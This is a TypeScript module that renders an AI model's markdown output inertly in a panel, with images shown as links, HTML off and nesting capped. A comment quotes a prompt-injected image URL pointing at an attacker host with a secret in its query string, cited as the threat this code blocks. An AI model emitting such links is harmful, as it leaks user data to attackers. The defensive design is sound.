// The markdown dialect of the panel: markdown-it with raw HTML off, plus three renderer
// changes that keep model output inert (images never load, fences carry a safe language
// class, table alignment becomes a class because the sanitizer strips style attributes).
import MarkdownIt from 'markdown-it';

export type MdToken = ReturnType<MarkdownIt['parse']>[number];

const IMAGE_URL_DISPLAY_MAX = 120;

/** Block nesting markdown-it may build (its default, 100, gives DOMs 100 elements deep). */
export const MAX_BLOCK_NESTING = 48;
/**
 * Block containers (block quotes, lists, list items) nested deeper than this are not built:
 * what is inside the deepest allowed container is shown as one plain block holding its text
 * exactly as typed (markers included). A list level costs two (<ul>, <li>), a quote one: 5
 * list levels or 10 quote levels. Each level takes width (about 21 px per list level, 13 px per
 * quote level): in the corpus's screenshots in a 300-pixel side bar, the plain block under 16
 * quotes was 0 px wide and under 12 quotes 2 px; at 10 about 140 px are left, and no answer
 * worth reading nests deeper. Deeper DOMs were also slow: every re-render of an unfinished
 * block nested 48 deep parsed, sanitized and laid out boxes a few characters wide.
 */
export const MAX_BLOCK_DEPTH = 10;
/** Inline elements (emphasis, strong, strike, links) nested deeper than this become text. */
export const MAX_INLINE_DEPTH = 16;
/** Blocks at least this long are checked for pathological markup before markdown-it sees them. */
export const PATHOLOGICAL_MIN_CHARS = 4_000;
/** Share of emphasis/link delimiter characters above which a long block is shown as plain text. */
const PATHOLOGICAL_DELIMITER_SHARE = 0.2;
const MAX_BRACKET_DEPTH = 32;
/**
 * A line with more table pipes than this (a 3,000-column table) is shown as plain text:
 * markdown-it, the sanitizer and the browser's layout of such a table took 1.5 s in one task in
 * Chromium, and no answer needs it formatted. The text is kept exactly (plain block, Copy works).
 */
export const MAX_LINE_PIPES = 256;
/**
 * A top-level block with a line longer than this is shown as plain text (in segments, see
 * createPlainBlock; longLineBlocksAsPlain):
 * one paragraph of 170 KB was parsed, sanitized and laid out as one box on each re-render, up to
 * 450 ms per task at the end of the corpus's 200 KB line in the real panel. Prose lines are a few
 * hundred characters; a 20,000-character line is data (a minified file, base64), which is
 * better read and copied as plain text anyway. (An earlier cap, without segments, was taken out:
 * the 200 KB line then exceeded the e2e's 120 s to finish on a machine at load 13-20.)
 */
export const MAX_LINE_CHARS = 20_000;

function capInlineDepth(children: MdToken[]): void {
  let depth = 0;
  // tokens opened beyond the cap, so their closers (which must match) are demoted too
  const demoted: boolean[] = [];
  for (const t of children) {
    if (t.nesting === 1) {
      depth++;
      const demote = depth > MAX_INLINE_DEPTH;
      demoted.push(demote);
      if (demote) toText(t);
    } else if (t.nesting === -1) {
      depth = Math.max(0, depth - 1);
      if (demoted.pop()) toText(t);
    }
  }
}

/** Token type of the text below MAX_BLOCK_DEPTH (rendered as a plain <pre class="md-deep">). */
export const DEEP_TEXT = 'modelgate_deep_text';

const LIST_MARKER = /^(?:[*+-]|\d{1,9}[.)])(?:[ \t]|$)/;

type BlockState = Parameters<Parameters<MarkdownIt['block']['ruler']['before']>[2]>[0];

/**
 * Block rule, tried before all others: at MAX_BLOCK_DEPTH (or one level above it, on a line that
 * starts a list, whose items would be at the cap) it takes every line that still belongs
 * to the enclosing container (a block quote's own lines; for a list item, its indented lines)
 * and emits them as one DEEP_TEXT token, with the container markers already stripped by the
 * outer levels and everything deeper kept as typed. Nothing is dropped: the lines it does not
 * take (less indented ones, which end a list item) are parsed by the outer levels as usual.
 */
function blockDepthCap(state: BlockState, startLine: number, endLine: number, silent: boolean): boolean {
  if (state.level < MAX_BLOCK_DEPTH - 1) return false;
  // one level above the cap, a list would put its <li> at the cap: that line starts the plain block
  if (state.level === MAX_BLOCK_DEPTH - 1 && !LIST_MARKER.test(state.src.slice(state.bMarks[startLine] + state.tShift[startLine], state.eMarks[startLine])))
    return false;
  if (silent) return true;
  let next = startLine + 1;
  let end = next;
  while (next < endLine) {
    if (state.isEmpty(next)) {
      next++;
      continue;
    }
    if (state.sCount[next] < state.blkIndent) break;
    end = ++next;
  }
  const token = state.push(DEEP_TEXT, 'pre', 0);
  token.block = true;
  token.content = state.getLines(startLine, end, state.blkIndent, true);
  token.map = [startLine, end];
  state.line = end;
  return true;
}

function toText(t: MdToken): void {
  // em/strong/s carry their delimiter in markup; a link's brackets and URL are not kept
  // (its text is, as the following tokens).
  const shown = t.type.startsWith('link_') ? '' : t.markup;
  t.type = 'text';
  t.tag = '';
  t.nesting = 0;
  t.attrs = null;
  t.content = shown;
}

/**
 * A long block made mostly of emphasis/link delimiters costs markdown-it seconds per parse
 * (its emphasis and link scans go back over the open delimiters). Such text is not prose a
 * model writes; it is shown as plain text instead (see plainTextTokens).
 */
export function isPathologicalMarkdown(src: string): boolean {
  let n = 0;
  let brackets = 0;
  let maxBrackets = 0;
  let pipes = 0;
  for (let i = 0; i < src.length; i++) {
    const c = src.charCodeAt(i);
    if (c === 10) {
      pipes = 0;
    } else if (c === 124 && ++pipes > MAX_LINE_PIPES) return true;
    // * _ ~ [ ] ( >
    if (c === 42 || c === 95 || c === 126 || c === 91 || c === 93 || c === 40 || c === 62) n++;
    if (c === 91 && ++brackets > maxBrackets) maxBrackets = brackets;
    else if (c === 93 && brackets > 0) brackets--;
  }
  // link labels nested deeper than this make markdown-it's link scan quadratic
  if (maxBrackets > MAX_BRACKET_DEPTH) return true;
  return src.length >= PATHOLOGICAL_MIN_CHARS && n / src.length > PATHOLOGICAL_DELIMITER_SHARE;
}

/** True when a line of `src` is longer than MAX_LINE_CHARS. */
export function hasLongLine(src: string): boolean {
  if (src.length <= MAX_LINE_CHARS) return false;
  for (let start = 0; start < src.length;) {
    const nl = src.indexOf('\n', start);
    const end = nl < 0 ? src.length : nl;
    if (end - start > MAX_LINE_CHARS) return true;
    start = end + 1;
  }
  return false;
}

/**
 * The top-level blocks of `tokens` (parsed from `src`) that hold a line longer than
 * MAX_LINE_CHARS, each replaced by one plain-text block with its source lines as is. Code fences
 * are left alone (they are text already). Markdown-it's own pass over such a line is fast; what
 * cost hundreds of milliseconds was sanitizing and laying out one huge paragraph.
 */
export function longLineBlocksAsPlain(tokens: MdToken[], src: string): MdToken[] {
  const starts = [0];
  for (let i = src.indexOf('\n'); i >= 0; i = src.indexOf('\n', i + 1)) starts.push(i + 1);
  if (starts[starts.length - 1] !== src.length) starts.push(src.length);
  const at = (line: number) => starts[Math.min(line, starts.length - 1)];
  const out: MdToken[] = [];
  for (const b of topLevelBlocks(tokens)) {
    let long = false;
    if (tokens[b.from].type !== 'fence') {
      for (let line = b.startLine; line < b.endLine && !long; line++) long = at(line + 1) - at(line) > MAX_LINE_CHARS + 1;
    }
    if (!long) {
      for (let i = b.from; i < b.to; i++) out.push(tokens[i]);
      continue;
    }
    const [plain] = plainTextTokens(src.slice(at(b.startLine), at(b.endLine)));
    plain.map = [b.startLine, b.endLine];
    out.push(plain);
  }
  return out;
}

/** One plain-text block holding `src` as is (rendered as a code block without a language). */
export function plainTextTokens(src: string): MdToken[] {
  const state = new md.core.State(src, md, {});
  const lines = src.split('\n').length;
  const t = new state.Token('fence', 'code', 0);
  t.content = src.endsWith('\n') ? src : `${src}\n`;
  t.info = '';
  t.markup = '```';
  t.block = true;
  t.map = [0, lines];
  t.meta = { plainText: true };
  return [t];
}

/**
 * True when markdown-it stopped at its nesting limit: the block parser then drops the rest
 * of the text silently, so the caller shows the text as plain text instead.
 */
export function isPlainTextToken(t: MdToken): boolean {
  return (t.meta as { plainText?: boolean } | null)?.plainText === true;
}

export function hitNestingLimit(tokens: MdToken[]): boolean {
  for (const t of tokens) if (t.level >= MAX_BLOCK_NESTING - 1) return true;
  return false;
}

function escapeHtml(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

/**
 * The language of a fence from its info string ("ts title=x" -> "ts"), restricted to the
 * characters real language names use so it is safe in a class name.
 */
export function langFromInfo(info: string): string {
  const first = info.trim().split(/\s+/, 1)[0] ?? '';
  const cleaned = first.replace(/\\(.)/g, '$1').toLowerCase();
  return /^[a-z0-9_+#.-]{1,32}$/.test(cleaned) ? cleaned : '';
}

function createMarkdownIt(): MarkdownIt {
  const md = new MarkdownIt({ html: false, linkify: true, typographer: false, breaks: false });
  // not in the typings' Options, but read by both block and inline parsers
  (md.options as { maxNesting?: number }).maxNesting = MAX_BLOCK_NESTING;
  md.linkify.set({ fuzzyEmail: false });
  // First block rule: at MAX_BLOCK_DEPTH, the rest of the enclosing container is one plain block.
  md.block.ruler.before('table', 'modelgate_block_depth_cap', blockDepthCap);
  // Reference definitions ("[x]: url") make a block's rendering depend on text far away, which
  // would break rendering each finished block once (see StreamingMarkdown). Models rarely use
  // them; with the rule off such a line shows as text, URL included.
  md.disable('reference');

  // Markdown images are never loaded (a prompt-injected ![](https://attacker/?q=secret) would
  // leak data the moment it loads). Render them as a link-like text the user may choose to
  // open; non-web URLs lose the link in the sanitizer and become plain text.
  md.renderer.rules.image = (tokens, idx, options, env, self) => {
    const token = tokens[idx];
    const src = token.attrGet('src') ?? '';
    const alt = self.renderInlineAsText(token.children ?? [], options, env);
    const shown = src.length > IMAGE_URL_DISPLAY_MAX ? `${src.slice(0, IMAGE_URL_DISPLAY_MAX)}…` : src;
    const label = `🖼 ${alt ? `${alt} ` : ''}(${shown})`;
    return `<a href="${escapeHtml(src)}" class="md-image-link">${escapeHtml(label)}</a>`;
  };

  md.renderer.rules[DEEP_TEXT] = (tokens, idx) => `<pre class="md-deep"><code>${escapeHtml(tokens[idx].content)}</code></pre>\n`;

  md.renderer.rules.fence = (tokens, idx) => {
    const token = tokens[idx];
    const lang = langFromInfo(token.info);
    const cls = lang ? ` class="language-${lang}"` : '';
    return `<pre><code${cls}>${escapeHtml(token.content)}</code></pre>\n`;
  };

  md.core.ruler.push('modelgate_align_classes', (state) => {
    const walk = (tokens: MdToken[]): void => {
      for (const t of tokens) {
        if ((t.type === 'th_open' || t.type === 'td_open') && t.attrs) {
          const style = t.attrGet('style') ?? '';
          t.attrs = t.attrs.filter(([name]) => name !== 'style');
          const m = /text-align:\s*(left|right|center)/.exec(style);
          if (m) t.attrJoin('class', `align-${m[1]}`);
        }
        if (t.children) walk(t.children);
      }
    };
    walk(state.tokens);
  });

  // Deeply nested inline markup ("*a *a *a … b* b* b*", thousands deep) would become a DOM
  // thousands of elements deep: the sanitizer and the browser walk it recursively (stack
  // overflow in jsdom, seconds per flush in Chromium). Beyond MAX_INLINE_DEPTH the markup is
  // shown as the characters that were typed, so no text is lost.
  md.core.ruler.push('modelgate_cap_inline_depth', (state) => {
    for (const t of state.tokens) if (t.type === 'inline' && t.children) capInlineDepth(t.children);
  });
  return md;
}

export const md = createMarkdownIt();

/** One top-level block of a token stream: tokens [from, to) and its source lines [map[0], map[1]). */
export interface TopBlock {
  from: number;
  to: number;
  startLine: number;
  endLine: number;
  type: string;
}

export function topLevelBlocks(tokens: MdToken[]): TopBlock[] {
  const blocks: TopBlock[] = [];
  let i = 0;
  while (i < tokens.length) {
    const t = tokens[i];
    let j = i;
    if (t.nesting === 1) {
      j = i + 1;
      while (j < tokens.length && !(tokens[j].level === t.level && tokens[j].nesting === -1)) j++;
    }
    const map = t.map ?? [0, 0];
    blocks.push({ from: i, to: j + 1, startLine: map[0], endLine: map[1], type: t.type });
    i = j + 1;
  }
  return blocks;
}

export function renderTokens(tokens: MdToken[], from: number, to: number): string {
  return md.renderer.render(tokens.slice(from, to), md.options, {});
}

const CLOSING_FENCE = /^ {0,3}(`{3,}|~{3,})[ \t]*$/;

/** True when `line` closes a fence opened with `marker` (same character, at least as long). */
export function isClosingFence(line: string, marker: string): boolean {
  const m = CLOSING_FENCE.exec(line);
  return !!m && m[1][0] === marker[0] && m[1].length >= marker.length;
}
